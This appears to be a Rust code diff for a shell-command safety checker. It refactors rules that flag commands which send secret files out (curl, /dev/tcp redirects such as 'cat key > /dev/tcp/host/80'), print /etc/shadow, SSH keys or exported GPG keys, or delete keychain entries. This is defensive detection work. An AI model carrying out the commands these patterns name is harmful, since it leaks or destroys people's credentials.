@@ -2,6 +2,7 @@
 
 use shell::{Atom, Redirect, mark};
 
+use super::shown::{is_last, prints_file, prints_kept};
 use crate::builtin::paths;
 use crate::command::Command;
 use crate::zone::Target;
@@ -10,13 +11,15 @@ pub(super) fn is_sender(command: &Command<'_>) -> bool {
     command.is_kind(const { catalog::kind("sender") })
 }
 
-pub(super) fn is_printer(command: &Command<'_>) -> bool {
+fn is_printer(command: &Command<'_>) -> bool {
     command.is_kind(const { catalog::kind("printer") })
 }
 
 /// Files whose content is sent: what follows `@`, `-T`, or is copied to another machine.
 pub(super) fn sends_secret(command: &Command<'_>) -> bool {
-    let secret = |text: &str| paths::looks_secret(&command.target(text));
+    let secret = |text: &str| {
+        paths::looks_secret(&command.target(text)) || super::copies::carries_secret(command, text)
+    };
     match &*command.name {
         "curl" | "curlie" => curl_sends(command, secret),
         "Invoke-RestMethod" | "Invoke-WebRequest" => {
@@ -150,7 +153,7 @@ pub(super) fn sends_what_it_reads(command: &Command<'_>) -> bool {
 }
 
 /// Programs that print chosen lines of a file.
-const PICKER: catalog::Tags = catalog::kind("picker");
+pub(super) const PICKER: catalog::Tags = catalog::kind("picker");
 
 /// Whether a file goes straight into a connection: `cat key > /dev/tcp/host/80`.
 pub(super) fn sends_by_redirect(command: &Command<'_>) -> bool {
@@ -257,7 +260,7 @@ pub(super) fn reads_secret_file(command: &Command<'_>, atom: &Atom) -> bool {
 pub(super) fn deletes_key(command: &Command<'_>) -> bool {
     match &*command.name {
         "gpg" | "gpg2" => command.args().iter().any(|arg| arg.text.starts_with("--delete-secret")),
-        "security" => command.sub(&["delete-keychain|delete-identity|delete-key"]),
+        "security" => command.sub(&["delete-keychain|delete-identity|delete-key|delete-generic-password|delete-internet-password|delete-certificate"]),
         _ => false,
     }
 }
@@ -265,7 +268,7 @@ pub(super) fn deletes_key(command: &Command<'_>) -> bool {
 pub(super) fn prints_secret(command: &Command<'_>) -> bool {
     match &*command.name {
         "gpg" | "gpg2" => {
-            command.args().iter().any(|arg| arg.text.starts_with("--export-secret")) && shows_output(command)
+            command.args().iter().any(|arg| arg.text.starts_with("--export-secret")) && is_last(command)
         }
         "security" => {
             command.sub(&["dump-keychain|export"])
@@ -274,41 +277,9 @@ pub(super) fn prints_secret(command: &Command<'_>) -> bool {
         }
         "secret-tool" => command.sub(&["lookup|search"]),
         "getent" => command.sub(&["shadow|gshadow"]),
-        _ if command.is_kind(PICKER) => {
-            // Whoever picks from these files sees passwords and keys whatever is picked.
-            let kept = |target: &Target| {
-                matches!(target.path.as_str(), "/etc/shadow" | "/etc/gshadow" | "/etc/master.passwd")
-                    || paths::is_secret(target) && target.path.contains("/.ssh/")
-            };
-            // `-c`, `-l` and `-q` print a number, names or nothing.
-            shows_output(command)
-                && !command.has(&["-c", "-l", "-q"])
-                && command.operands().iter().map(|arg| command.target(&arg.text)).any(|t| kept(&t))
-        }
-        _ if is_printer(command) => {
-            shows_output(command)
-                && (command
-                    .operands()
-                    .iter()
-                    .map(|arg| command.target(&arg.text))
-                    .any(|target| paths::is_secret(&target) || target.whole && paths::holds_secrets(&target))
-                    || command.atom.redirects.iter().any(|redirect| {
-                        redirect.flow == shell::Flow::Read
-                            && paths::is_secret(&command.target(&redirect.target))
-                    }))
-        }
-        _ => false,
+        _ if is_printer(command) || command.is_kind(PICKER) => prints_file(command),
+        _ => prints_kept(command),
     }
-}
-
-/// Whether its output is what the caller sees: neither a file nor another program takes it.
-pub(super) fn shows_output(command: &Command<'_>) -> bool {
-    let last = command.pipeline().map(|atom| atom.stage.index).max().unwrap_or(0) <= command.atom.stage.index;
-    last && !command
-        .atom
-        .redirects
-        .iter()
-        .any(|redirect| redirect.fd == 1 && redirect.flow != shell::Flow::Read)
 }
 
 /// Whether it asks a cloud's metadata service for something that gives access.
